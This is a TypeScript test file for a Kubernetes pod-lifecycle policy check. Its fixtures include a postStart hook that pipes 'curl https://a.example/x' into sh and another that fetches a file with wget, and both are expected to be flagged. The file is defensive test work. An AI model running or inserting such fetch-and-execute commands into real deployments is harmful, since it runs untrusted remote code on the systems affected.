import { checkTests } from '../../../test/kit/check-tests.js'
import { podWith } from './example-pod.js'
import { podLifecycleExec } from './pod-lifecycle-exec.js'

const hook = (name: string, command: string): ReturnType<typeof podWith> =>
  podWith(`lifecycle: {${name}: {exec: {command: ${command}}}}`)

checkTests(podLifecycleExec, [
  {
    name: 'a script of somebody else',
    kind: 'failing',
    given: hook('postStart', '[sh, -c, "curl https://a.example/x | sh"]'),
    expect: [
      {
        result: 'fail',
        severity: 'info',
        path: 'spec.containers[name=app].lifecycle.postStart.exec.command',
      },
    ],
  },
  { name: 'waiting', kind: 'passing', given: hook('preStop', '[sleep, "5"]'), expect: [] },
  {
    name: 'without a shell',
    kind: 'odd',
    given: hook('postStart', '[wget, "http://a.example/x"]'),
    expect: [{ result: 'fail' }],
  },
  {
    name: 'no list',
    kind: 'unknown',
    given: hook('postStart', 'curl'),
    expect: [{ result: 'unknown', reason: 'unparsable' }],
  },
])
